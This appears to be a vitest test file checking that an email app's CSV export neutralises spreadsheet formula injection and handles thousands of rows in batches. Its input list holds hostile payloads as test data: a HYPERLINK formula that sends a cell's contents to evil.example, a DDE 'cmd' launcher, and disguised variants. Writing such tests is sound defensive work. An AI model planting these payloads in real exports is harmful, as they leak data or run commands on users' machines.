// The log of all that came in, as a file for a spreadsheet in which no sender can write a formula.
import { expect, it, onTestFinished } from "vitest";
import { openApp, receiveEmail, secretAddress } from "./app.ts";

const formulas = [
  '=HYPERLINK("https://evil.example?x="&A1,"press")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\u200b=1+1",
  " =1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  'a";=1+1',
  "a,=1+1",
  'quotes " and, commas\r\nand lines',
];

it("holds every email in one quoted line, newest first, and no cell that a spreadsheet would work out", async () => {
  const app = await openApp();
  for (const subject of formulas) await receiveEmail(app, { subject, fromName: subject });
  await receiveEmail(app, { subject: `To ${secretAddress}`, status: "ignored", reason: "discarded" });
  const page = await (await app.signedIn(app.world.people.tom)).get("/held.csv");
  expect(page.headers.get("content-type")).toContain("text/csv");
  expect(page.headers.get("content-disposition")).toBe(
    'attachment; filename="emails-that-came-in-2026-03-02.csv"',
  );
  expect(page.headers.get("x-content-type-options")).toBe("nosniff");
  expect(page.text).not.toContain(secretAddress);
  const lines = page.text.replace("\ufeff", "").split("\r\n");
  expect(lines.at(-1)).toBe("");
  expect(lines).toHaveLength(formulas.length + 3);
  expect(lines[0]).toBe('"Received (UTC)","Status","Reason","From","To","Subject","Task"');
  expect(lines[1]).toContain('"Set aside","Somebody of us set it aside."');
  expect(lines[1]).toContain("[our reply address]");
  for (const line of lines.slice(0, -1)) {
    const cells = cellsOf(line);
    expect(cells).toHaveLength(7);
    for (const cell of cells) {
      expect(cell).not.toMatch(/^\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u);
      expect(cell).not.toMatch(/[;,"|][=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u);
      // oxlint-disable-next-line no-control-regex -- exactly what must not be there
      expect(cell).not.toMatch(/[\u0000-\u001f]/u);
    }
  }
  expect(page.text).toContain('"quotes "" and, commas and lines"');
});

it("is written in batches, whole for many of them, and leaves nothing waiting on its connection", async () => {
  const warnings: string[] = [];
  const hear = ({ name }: Error) => void warnings.push(name);
  process.on("warning", hear);
  onTestFinished(() => void process.off("warning", hear));
  const app = await openApp();
  await app.store.write(async (rows) => {
    const sql = `insert into inbound_emails (source, raw_sha256, envelope_from, envelope_to, provider_fields, received_at, status, subject)
      values (?, ?, ?, ?, ?, ?, ?, ?)`;
    await rows.run(
      "insert into blobs (sha256, size_bytes, bytes) values (?, ?, ?)",
      "aa",
      1,
      Buffer.from("a"),
    );
    for (let index = 0; index < rowCount; index++) {
      const to = `to-${index}@reply.northbeam.example`;
      await rows.run(
        sql,
        "raw",
        "aa",
        "x@y.example",
        to,
        "{}",
        "2026-03-02T09:00:00.000Z",
        "held",
        `No ${index}`,
      );
    }
  });
  const page = await (await app.signedIn(app.world.people.tom)).get("/held.csv");
  const lines = page.text.trim().split("\r\n").slice(1);
  expect(new Set(lines.map((line) => cellsOf(line)[5])).size).toBe(rowCount);
  expect(warnings).toEqual([]);
  expect(cellsOf(lines[0]!)[5]).toBe(`No ${rowCount - 1}`);
});

/** More batches than Node lets listen on one connection without a word. */
const rowCount = 7_201;

/** RFC 4180, every cell quoted. */
function cellsOf(line: string): string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/gu)].map(([, cell]) => cell!.replaceAll('""', '"'));
}
